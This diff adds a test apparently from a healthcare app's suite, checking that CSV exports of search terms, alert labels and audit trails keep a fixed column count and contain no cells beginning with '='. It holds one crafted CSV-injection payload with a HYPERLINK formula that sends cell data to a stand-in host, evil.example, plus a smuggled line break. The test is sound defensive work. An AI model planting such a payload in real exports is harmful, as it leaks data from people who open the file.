@@ -118,6 +118,27 @@ def test_csv_holds_the_same_rows(trail):
         assert row["filter"] == (event["filter"] or "")
 
 
+def test_a_quote_with_a_mark_above_it_ends_no_cell_of_a_table(fresh):
+    """What somebody searched for, and what an alert is called, stand in their own column whatever they hold."""
+    evil = '"\u0301,=HYPERLINK("http://evil.example/"&A1),"\u0301\r\n=1+1,x'
+    server = fresh().start()
+    with server.http("patient", "mallory") as patient:
+        session = patient.post("/api/sessions", json={}).json()["session_id"]
+        assert patient.get("/fhir/AuditEvent", params={"_id": evil}).status_code == 200
+    with server.http("nurse") as nurse:
+        label = evil.replace("\r\n", " ")
+        assert nurse.post("/api/emergency/alerts", json={"session_id": session, "label": label}).status_code == 201
+        table = nurse.get("/api/nurse/analytics", params={"format": "csv", "time_range": "all"}).text
+    rows = list(csv.reader(io.StringIO(table, newline="")))
+    assert any(label in row for row in rows)
+    assert {len(row) for row in rows} == {4} and not any(cell.startswith("=") for row in rows for cell in row)
+    with server.http("compliance") as officer:
+        trail = officer.get("/api/audit/export", params={"format": "csv", "type": "viewing_started"}).text
+    rows = list(csv.reader(io.StringIO(trail[: trail.rindex("# manifest")], newline="")))
+    assert len(rows) > 2 and len({len(row) for row in rows}) == 1
+    assert not any(cell.startswith("=") for row in rows for cell in row)
+
+
 def coded(concept: dict) -> str:
     return concept["coding"][0]["code"] if "coding" in concept else concept["code"]
 
